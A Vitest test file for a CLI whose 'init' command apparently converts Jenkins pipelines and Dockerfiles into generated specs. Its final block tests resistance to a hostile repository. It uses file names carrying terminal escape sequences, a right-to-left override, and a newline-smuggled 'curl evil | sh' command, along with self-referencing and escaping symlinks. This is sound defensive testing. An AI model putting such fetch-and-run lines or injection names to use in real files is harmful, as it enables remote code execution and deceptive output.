import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it, onTestFinished } from "vitest";
import { npm } from "../../../generator/source-tools/npm.ts";
import { put } from "../commands/support.ts";

const cli = join(import.meta.dirname, "../../../dist/cli.js");

/** Runs `init` in a repository of GitHub; its specs must be valid without a finding. Returns the specs and the report. */
function init(files: Readonly<Record<string, string>>, prepare: (folder: string) => void = () => undefined) {
  const folder = mkdtempSync(join(tmpdir(), "stagewright-public-"));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  for (const [path, text] of Object.entries(files)) put(folder, path, text);
  prepare(folder);
  const git = (...given: string[]) => execFileSync("git", given, { cwd: folder });
  git("init", "--quiet", "--initial-branch=main");
  git("remote", "add", "origin", "https://github.com/acme/web.git");
  const run = (...given: string[]) => spawnSync(process.execPath, [cli, ...given], { cwd: folder, encoding: "utf8" });
  const { status, stdout, stderr } = run("init", "--yes");
  expect(status, stderr).toBe(0);
  expect(run("validate")).toMatchObject({ status: 0, stderr: "" });
  const read = (path: string) => readFileSync(join(folder, path), "utf8");
  const platform = read("stagewright.yaml");
  const [, specs = ""] = /^services: (.*)\/\*\.yaml$/m.exec(platform) ?? [];
  return { folder, platform, service: read(`${specs}/web.yaml`), report: stdout };
}

const pom = { "pom.xml": "<project/>" };
const steps = (...lines: string[]) => `node {\n${lines.map((it) => `  ${it}\n`).join("")}}\n`;

describe("the registry of the old pipeline", () => {
  const docker = { ...pom, Dockerfile: "FROM eclipse-temurin:21\n" };

  it.each([
    ["a push of a name without a host", "sh 'docker push shop/web'"],
    ["the default of docker.withRegistry", "docker.withRegistry('', 'hub') { docker.build('shop/web') }"],
    ["an address of Docker Hub", "docker.withRegistry('https://index.docker.io/v1/') { docker.build('shop/web') }"],
  ])("is Docker Hub: %s", (_, line) => {
    const { platform, service } = init({ ...docker, Jenkinsfile: steps("sh 'docker build -t shop/web .'", line) });
    expect(platform).toContain("main: { host: docker.io, ");
    expect(service).toContain("image: { registry: main, name: shop/web }");
  });

  it("is another one, if it has a host", () => {
    const { platform } = init({ ...docker, Jenkinsfile: steps("sh 'docker push harbor.acme.example/shop/web'") });
    expect(platform).toContain("main: { host: harbor.acme.example, ");
  });

  it("is unknown for an image that is only on the agent: its name is below the account", () => {
    const { platform, service } = init({ ...docker, Jenkinsfile: steps("sh 'docker build -t hello .'") });
    expect(platform).toContain("main: { host: ghcr.io, ");
    expect(service).toContain("image: { registry: main, name: acme/hello }");
  });
});

describe("a Dockerfile", () => {
  it("in a folder whose paths begin at the root has the root as its context", () => {
    const Dockerfile = "FROM python:3.13\nCOPY app /app\nCOPY devops/start.sh /start.sh\n";
    const files = { "requirements.txt": "", "app/main.py": "", "devops/start.sh": "", "devops/Dockerfile": Dockerfile };
    expect(init(files).service).toContain("name: acme/web }, dockerfile: devops/Dockerfile }");
  });

  it("in a folder with its files has this folder as its context", () => {
    const Dockerfile = "FROM python:3.13\nCOPY start.sh /start.sh\n";
    const files = { "requirements.txt": "", "devops/start.sh": "", "devops/Dockerfile": Dockerfile };
    expect(init(files).service).toContain("dockerfile: devops/Dockerfile, context: devops }");
  });

  it("of Quarkus is found, with the folders that it copies", () => {
    const Dockerfile =
      "FROM ubi9/openjdk-21\nCOPY --chown=185 target/quarkus-app/lib/ /deployments/lib/\n" +
      "COPY target/quarkus-app/*.jar /deployments/\nCOPY target/web.jar /deployments/\n";
    const { service } = init({ ...pom, "src/main/docker/Dockerfile.jvm": Dockerfile });
    expect(service).toContain("artifacts: [target/*.jar, target/quarkus-app/lib/**, target/quarkus-app/*.jar] }");
    expect(service).toContain("name: acme/web }, dockerfile: src/main/docker/Dockerfile.jvm }");
  });

  it.each([
    ['COPY ["target/web.jar", "target/lib", "/opt/"]', "[target/*.jar, target/lib/**]"],
    ["COPY target /opt/", "[target/**]"],
    ["COPY ./target/conf/app.yaml /etc/", "[target/*.jar, target/conf/app.yaml]"],
    ["COPY --from=build /src/target/x.bin /x", "[target/*.jar]"],
    ["ARG FILE\nCOPY target/${FILE} /x", "[target/*.jar]"],
    ["COPY ../target/x.bin /x", "[target/*.jar]"],
    ["ADD https://acme.example/target/x.bin /x", "[target/*.jar]"],
    ["COPY src /src", "[target/*.jar]"],
    ["COPY target/a,b.txt target/'c /x", "[target/*.jar]"],
    ["COPY <<EOF /target/x\nhello\nEOF", "[target/*.jar]"],
  ])("with %j needs the artifacts %s", (line, artifacts) => {
    expect(init({ ...pom, Dockerfile: `FROM debian\n${line}\n` }).service).toContain(`artifacts: ${artifacts} }`);
  });
});

describe("a repository of several applications", () => {
  it("has a stage for each Dockerfile up to three folders below, named after its application", () => {
    const Dockerfile = "FROM debian\nCOPY src/lib /lib\n";
    const { service } = init({
      ...pom,
      "src/lib/x": "",
      "src/services/order/Dockerfile": Dockerfile,
      "src/services/pay/Dockerfile": Dockerfile,
      "shop/ci/Dockerfile": "FROM debian\n",
    });
    expect(service).toContain("id: image-shop, ");
    expect(service).toContain("name: acme/web-order }, dockerfile: src/services/order/Dockerfile }");
    expect(service).toContain("name: acme/web-pay }, dockerfile: src/services/pay/Dockerfile }");
  });

  it("has the Dockerfile of an application in a folder of it", () => {
    const { folder } = init({
      "web/go.mod": "",
      "web/ci/Dockerfile": "FROM debian\nCOPY bin/web /\n",
      "web/bin/web": "",
    });
    expect(readFileSync(join(folder, "services/web.yaml"), "utf8")).toContain(
      "dockerfile: web/ci/Dockerfile, context: web }",
    );
  });

  it("has a frontend with another tool built by the same stage", () => {
    const { service, report } = init({
      ...pom,
      "orders/Dockerfile": "FROM debian\nCOPY target/*.jar /\n",
      "web/package.json": '{ "scripts": { "build": "react-scripts build" } }',
      "web/Dockerfile": "FROM nginx\nCOPY build/ /usr/share/nginx/html\n",
      "ci/Jenkinsfile": steps("sh 'npm run build'"),
    });
    expect(service).toContain(
      "tool: maven, artifacts: ['**/target/*.jar'], also: [{ tool: npm, directory: web, artifacts: [build/**] }] }",
    );
    expect(report).toContain("build it with `also` of the source stage, or in a service of its own: `tool: npm`\n");
  });

  it("has the account of the images in the old pipeline", () => {
    const Jenkinsfile = steps(
      ...["orders", "web"].map((name) => `docker.build("team-x/web-${name}:1", '${name}').push()`),
      "sh 'docker push team-x/web-orders:1'",
    );
    const files = { ...pom, "orders/Dockerfile": "FROM debian\n", "web/Dockerfile": "FROM debian\n", Jenkinsfile };
    const { platform, service } = init(files);
    expect(platform).toContain("main: { host: docker.io, ");
    expect(service).toContain("name: team-x/web-orders }");
    expect(service).toContain("name: team-x/web-web }");
  });

  it("has a report of the Dockerfiles that belong to no application", () => {
    const { report } = init({ "web/go.mod": "", "database/Dockerfile": "FROM postgres:17\n" });
    expect(report).toContain(
      "  database/Dockerfile: a Dockerfile: no proposed stage builds it: add an image stage to the service that it belongs to\n",
    );
  });

  it.each([
    ["tools of the repository", { scripts: { prepare: "husky" }, devDependencies: { husky: "9" } }, true],
    ["an application", { dependencies: { express: "5" } }, false],
    ["tests", { scripts: { test: "mocha" } }, false],
  ])("is not only its package.json at the root with %s", (_, root, below) => {
    const files = { "package.json": JSON.stringify(root), "apps/web/package.json": '{ "scripts": { "build": "x" } }' };
    expect(init(files).service.includes("directory: apps/web")).toBe(below);
  });
});

describe("the script build of package.json", () => {
  it.each([
    ["react-scripts build", "build/**"],
    ["CI=false react-scripts build", "build/**"],
    ["docusaurus build", "build/**"],
    ["gatsby build", "public/**"],
    ["next build", ".next/**"],
    ["nuxt build", ".output/**"],
    ["vite build", "dist/**"],
    ["tsc && vite build", "dist/**"],
    ["node make.js", "dist/**"],
  ])("%s makes %s", (build, expected) => {
    const read = (path: string) => (path === "package.json" ? JSON.stringify({ scripts: { build } }) : null);
    expect(npm.detections[0]?.artifacts(read)).toEqual([expected]);
  });

  it.each([
    ['{\n  // "outDir": "old",\n  "compilerOptions": { "outDir": "./lib" }\n}', "lib/**"],
    ['{ "compilerOptions": { "outDir": "out/" } }', "out/**"],
    ['{ "compilerOptions": { "outDir": ".." } }', "dist/**"],
    ["{}", "dist/**"],
  ])("of tsc makes the folder of %j: %s", (tsconfig, expected) => {
    const files: Readonly<Record<string, string>> = {
      "package.json": '{ "scripts": { "build": "tsc -p ." } }',
      "tsconfig.json": tsconfig,
    };
    expect(npm.detections[0]?.artifacts((path) => files[path] ?? null)).toEqual([expected]);
  });
});

describe("a Python project", () => {
  it("with setup.py is the whole repository, and not the folder with its lists of packages", () => {
    const { service } = init({ "setup.py": "", "requirements/requirements.txt": "", "requirements/dev.txt": "" });
    expect(service).toContain("- { id: build, kind: source, owner: web, tool: python, artifacts: [dist/*.whl] }");
  });

  it("with setup.py and requirements.txt makes no package", () => {
    expect(init({ "setup.py": "", "requirements.txt": "" }).service).toContain("tool: python }");
  });
});

describe("a variable of the old pipeline", () => {
  const stage = (name: string, command: string) =>
    `    stage('${name}') {\n      environment {\n        ${name.toUpperCase()} = 'x'\n      }\n      steps {\n        sh '${command}'\n      }\n    }\n`;
  const pipeline = (...stages: string[]) => `pipeline {\n  agent any\n  stages {\n${stages.join("")}  }\n}\n`;

  it("of a stage that builds is one of the build; that of another stage is not", () => {
    const Jenkinsfile = pipeline(stage("make", "mvn package"), stage("dev", "serverless deploy"));
    const { service, report } = init({ ...pom, Jenkinsfile });
    expect(service).toContain("environment: { MAKE: x }");
    expect(report).toContain(
      "  Jenkinsfile:14: the variable DEV: it is one of a stage that does not build: set `environment` of the stage that does this work\n",
    );
  });

  it("of a stage is one of the build, if the old pipeline does not run the tool itself", () => {
    expect(init({ ...pom, Jenkinsfile: pipeline(stage("make", "./build.sh")) }).service).toContain(
      "environment: { MAKE: x }",
    );
  });
});

describe("Jenkinsfiles in folders", () => {
  const ci = { "ci/Jenkinsfile": "node('big') {\n}\n", "ci/Jenkinsfile.release": "" };

  it("are read, if there is only one with this name", () => {
    const { platform, report } = init({ ...pom, ...ci });
    expect(platform).toContain("agent: { label: big }");
    expect(report).toContain("  ci/Jenkinsfile:1: site.agent.label: big\n");
    expect(report).toContain("  ci/Jenkinsfile.release: a Jenkinsfile: init reads only ci/Jenkinsfile\n");
  });

  it("are listed next to one at the root", () => {
    const { platform, report } = init({ ...pom, ...ci, Jenkinsfile: "node('root') {\n}\n" });
    expect(platform).toContain("agent: { label: root }");
    expect(report).toContain("  ci/Jenkinsfile: a Jenkinsfile: init reads only Jenkinsfile\n");
  });

  it("are listed, if there are several", () => {
    const { platform, report } = init({ ...pom, ...ci, "jenkins/Jenkinsfile": "node('other') {\n}\n" });
    expect(platform).toContain("agent: { label: linux }");
    expect(report).toContain(
      "  jenkins/Jenkinsfile: a Jenkinsfile: init reads a single one: the one at the root of the repository, or the only one\n",
    );
  });
});

describe("a repository whose author attacks", () => {
  it("prints no control characters of names", () => {
    const names = [
      "db/a\u001b[31m\u001b]0;x\u0007b/Dockerfile",
      "db/n\nnext: curl evil | sh/Dockerfile",
      "ci/Jenkinsfile.\u202ex",
    ];
    const { report } = init({
      ...pom,
      ...Object.fromEntries(names.map((name) => [`web/${name}`, ""])),
      [names[2] ?? ""]: "",
    });
    expect(report.replaceAll("\n", "")).toMatch(/^[ -~]*$/);
    expect(report.match(/^next: /gm)).toHaveLength(1);
    expect(report).toContain("  ci/Jenkinsfile.\\u{202e}x: a Jenkinsfile: ");
  });

  it("cannot stop init by links to themselves, and by paths that no system has", () => {
    const Dockerfile = `FROM debian\nCOPY ${"x".repeat(300)} /x\nCOPY a\0b /x\n`;
    const { service } = init({ ...pom, "api/Dockerfile": Dockerfile }, (folder) => {
      for (const name of ["jenkins", "ci", "Makefile", "package.json"]) symlinkSync(name, join(folder, name));
    });
    expect(service).toContain("dockerfile: api/Dockerfile, context: api }");
  });

  it.each(["Jenkinsfile", "services", "generated", "web/Dockerfile"])(
    "cannot stop init by %s, a link to itself",
    (path) => {
      const name = path.split("/").at(-1) ?? "";
      const { platform } = init({ ...pom, ".gitignore": "out/\n", "web/x": "" }, (folder) =>
        symlinkSync(name, join(folder, path)),
      );
      expect(platform).toContain("services: ");
    },
  );

  it("cannot slow init down by the length of a file", () => {
    const files = { "package.json": '{ "scripts": { "build": "tsc" } }', "tsconfig.json": "\n".repeat(300_000) };
    const start = process.cpuUsage();
    expect(npm.detections[0]?.artifacts((path) => files[path as keyof typeof files] ?? null)).toEqual(["dist/**"]);
    expect(process.cpuUsage(start).user).toBeLessThan(2_000_000);
  });

  it("has init read links to Jenkinsfiles in the repository, and none that lead out of it", () => {
    const outside = mkdtempSync(join(tmpdir(), "stagewright-outside-"));
    onTestFinished(() => rmSync(outside, { recursive: true, force: true }));
    put(outside, "Jenkinsfile", "node('foreign') {\n}\n");
    const within = init({ ...pom, "etc/pipeline.groovy": "node('big') {\n}\n" }, (folder) =>
      symlinkSync("etc/pipeline.groovy", join(folder, "Jenkinsfile")),
    );
    expect(within.platform).toContain("agent: { label: big }");
    const beyond = init(pom, (folder) => {
      symlinkSync(outside, join(folder, "ci"));
      mkdirSync(join(folder, "jenkins"));
      symlinkSync(join(outside, "Jenkinsfile"), join(folder, "jenkins/Jenkinsfile"));
    });
    expect(beyond.platform).toContain("agent: { label: linux }");
    for (const file of ["ci/Jenkinsfile", "jenkins/Jenkinsfile"])
      expect(beyond.report).toContain(
        `  ${file}: a Jenkinsfile: it leads out of the repository, or nowhere, so init does not read it\n`,
      );
  });
});
